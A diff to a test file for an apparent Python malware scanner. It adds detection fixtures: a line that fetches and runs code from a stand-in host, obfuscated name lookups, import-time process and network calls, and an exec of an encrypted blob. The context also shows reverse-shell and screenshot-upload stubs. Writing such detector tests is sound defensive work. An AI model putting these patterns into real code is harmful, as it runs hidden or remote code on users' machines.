@@ -42,6 +42,10 @@ HARMFUL = {
     "python.aside": "import os" + " " * 200 + ";__import__('os').system('x')\n",
     "python.native-code": "import ctypes\nctypes.windll.kernel32.VirtualAlloc(0, 1, 2, 3)\n",
     "python.capture-sent": "import requests\nfrom PIL import ImageGrab\nrequests.post('u', files=ImageGrab.grab())\n",
+    "python.hidden-name": "x = ''.join(map(getattr(__builtins__, oct.__str__()[-3] + 'hr'), [104, 105]))\n",
+    "python.code-in-text": "f.write(b\"import os;exec(urlopen('http://x.example').read())\")\n",
+    "python.module-process": "import os\ndef f():\n    os.system('x')\nf()\n",
+    "python.module-network": "import requests\nrequests.get('u')\n",
     "python.startup": "import winreg\nwinreg.SetValueEx(k, 'x', 0, 1, 'y')\n",
     "python.reverse-shell": "import socket,os\ns=socket.socket()\nos.dup2(s.fileno(),0)\nx='/bin/sh'\n",
 }  # fmt: skip
@@ -83,6 +87,11 @@ def test_an_install_command_runs_at_installation_wherever_it_stands():
     assert rules(source) == {"python.install-process": 5}
 
 
+def test_names_of_foreign_letters_that_nobody_can_tell_apart_are_mangled():
+    names = ["".join(random.Random(i).choices("馬女水口目人鳥月山", k=20)) for i in range(6)]
+    assert "python.mangled" in rules("\n".join(f"{n} = {i}" for i, n in enumerate(names)))
+
+
 def test_a_pth_file_with_code_is_found_and_one_with_paths_is_not():
     assert "python.pth" in rules("import os; os.system('x')\n", "x.whl!/x.pth")
     assert rules("./lib\n", "x.whl!/x.pth") == {}
@@ -92,6 +101,7 @@ def test_a_pth_file_with_code_is_found_and_one_with_paths_is_not():
     "from builtins import exec as go\nimport base64 as b\nx = b.b64decode('eA==')\ny = x.decode()\ngo(y)\n",
     "exec(__import__('base64').b64decode('eA=='))\n",
     "import importlib\nexec(importlib.import_module('zlib').decompress(b''))\n",
+    "exec(decrypt('gAAAAABmBIPbKnvr9DYD8FUK3Co2rNgyWvkDBlYRXTRLkhqBKXLg7N0mmqQw_UCL0RVD4Oh6azw'))\n",
     "exec(getattr(__import__('base64'), 'b64decode')('eA=='))\n",
     "(exec)(bytes.fromhex('00'))\n",
 ])  # fmt: skip
@@ -102,6 +112,8 @@ def test_other_names_and_detours_hide_nothing(source):
 @pytest.mark.parametrize("source", [
     "# exec(base64.b64decode(x))\n'''exec(base64.b64decode(x))'''\n",
     "import base64\ndef load(x):\n    return base64.b64decode(x)\n",
+    "import requests\nif __name__ == '__main__':\n    requests.get('u')\n",
+    "名前 = '这是一段很长的中文说明文字这是一段很长的中文说明文字'\n",
     "class A:\n    def exec(self): ...\nA().exec('x')\n",
     "import re\nre.compile('x')\nmodel.eval()\ndf.eval('a + b')\n",
     "import requests\ndef get(u):\n    return requests.get(u)\n",
